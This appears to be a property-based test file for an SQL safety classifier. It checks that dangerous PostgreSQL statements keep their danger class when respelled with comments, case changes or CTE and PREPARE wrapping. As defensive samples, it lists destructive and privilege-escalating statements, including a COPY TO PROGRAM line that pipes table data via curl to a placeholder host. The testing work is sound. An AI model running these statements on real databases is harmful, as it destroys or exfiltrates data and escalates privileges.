/**
 * Meaning-preserving rewrites of a dangerous statement never lower its class: keywords and
 * identifiers in any case, identifiers quoted, comments (nested ones too) and odd whitespace
 * between any two tokens, other statements batched around it, and DML wrapped in a writable CTE,
 * PREPARE/EXECUTE or EXPLAIN ANALYZE. A rewrite may make the text unreadable to Airlock (then it
 * is refused); it may never make it read as less dangerous.
 */
import fc from 'fast-check';
import { scanSync } from 'libpg-query';
import { beforeAll, describe, expect, it } from 'vitest';
import { mostDangerousPart, severity, type OperationClass } from '../../core/operation.js';
import { classifySql, loadSqlClassifier } from './index.js';

beforeAll(loadSqlClassifier);

const DANGEROUS: readonly string[] = [
  'DROP TABLE users',
  'TRUNCATE orders CASCADE',
  'DELETE FROM orders',
  'DELETE FROM orders WHERE id = id',
  "DELETE FROM orders WHERE lower(name) LIKE '%'",
  'UPDATE orders SET amount = 0 WHERE true',
  'SELECT lo_unlink(4242)',
  'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
  "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
  'ALTER DATABASE app SET standard_conforming_strings = off',
  "SET log_statement = 'none'",
  "SELECT set_config('standard_conforming_strings', 'off', false)",
  'CREATE OPERATOR ### (FUNCTION = lo_unlink, RIGHTARG = oid)',
  'SELECT ### 4242::oid',
  'CREATE AGGREGATE wipe(int) (SFUNC = int4pl, STYPE = int, FINALFUNC = pg_terminate_backend)',
  'CREATE CAST (int AS text) WITH FUNCTION pg_terminate_backend(int)',
  'CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION unknown_fn()',
  'CREATE RULE r AS ON INSERT TO orders DO INSTEAD NOTHING',
  'CREATE PUBLICATION p FOR ALL TABLES',
  "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
  "SELECT dblink_exec('host=prod', 'DROP TABLE orders')",
  "COPY orders TO PROGRAM 'curl -d @- http://x.example'",
  'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC',
  'SET ROLE postgres',
  'CREATE TABLE t (x int DEFAULT pg_terminate_backend(1))',
  'ALTER TABLE users DROP COLUMN email',
];

const DML = /^(DELETE|UPDATE|INSERT)\b/i;

function classOf(sql: string): OperationClass | 'refused' {
  const result = classifySql(sql);
  return result.ok ? mostDangerousPart(result.parts).class : 'refused';
}

interface Respelling {
  readonly upper: readonly boolean[];
  readonly quote: readonly boolean[];
  readonly gaps: readonly string[];
  readonly before: string;
  readonly after: string;
  readonly wrap: 'none' | 'cte' | 'prepare' | 'explain';
}

const GAPS = [' ', '  ', '\n', '\t', '/* c */', '/* a /* nested */ b */', ' -- note\n', '\r\n'];
const respelling = fc.record({
  upper: fc.array(fc.boolean(), { minLength: 64, maxLength: 64 }),
  quote: fc.array(fc.boolean(), { minLength: 64, maxLength: 64 }),
  gaps: fc.array(fc.constantFrom(...GAPS), { minLength: 64, maxLength: 64 }),
  before: fc.constantFrom('', 'SELECT 1; ', ';; ', "SELECT 'a;b'; ", 'BEGIN; '),
  after: fc.constantFrom('', '; SELECT 2', ';;', '; COMMIT'),
  wrap: fc.constantFrom('none', 'cte', 'prepare', 'explain'),
});

/** The same statement, token by token, spelt another way. */
function respell(sql: string, r: Respelling): string {
  const tokens = scanSync(sql).tokens;
  const words = tokens.map((token, i) => {
    const text = sql.slice(token.start, token.end);
    const plainIdentifier = token.tokenName === 'IDENT' && /^[a-z_][a-z0-9_]*$/i.test(text);
    if (plainIdentifier && r.quote[i % 64]) return `"${text.toLowerCase()}"`;
    if (plainIdentifier || token.keywordKind > 0) return r.upper[i % 64] ? text.toUpperCase() : text.toLowerCase();
    return text;
  });
  let body = words.map((word, i) => (i === 0 ? word : `${r.gaps[i % 64]}${word}`)).join('');
  if (DML.test(sql)) {
    if (r.wrap === 'cte') body = `WITH gone AS (${body} RETURNING 1) SELECT count(*) FROM gone`;
    if (r.wrap === 'prepare') body = `PREPARE p AS ${body}; EXECUTE p`;
    if (r.wrap === 'explain') body = `EXPLAIN ANALYZE ${body}`;
  }
  return `${r.before}${body}${r.after}`;
}

describe('rewrites that keep a statement’s meaning', () => {
  it.each(DANGEROUS)('never lower the class of %s', (sql) => {
    const original = classOf(sql);
    expect(original).not.toBe('refused');
    expect(['destructive', 'privilege']).toContain(original);
    let read = 0;
    fc.assert(
      fc.property(respelling, (r) => {
        const rewritten = respell(sql, r);
        const found = classOf(rewritten);
        if (found === 'refused') return;
        read++;
        expect(severity(found), rewritten).toBeGreaterThanOrEqual(severity(original as OperationClass));
      }),
      { numRuns: 60 },
    );
    // The rewrites are PostgreSQL, not noise: nearly all of them must be read, not refused.
    expect(read).toBeGreaterThan(50);
  });
});
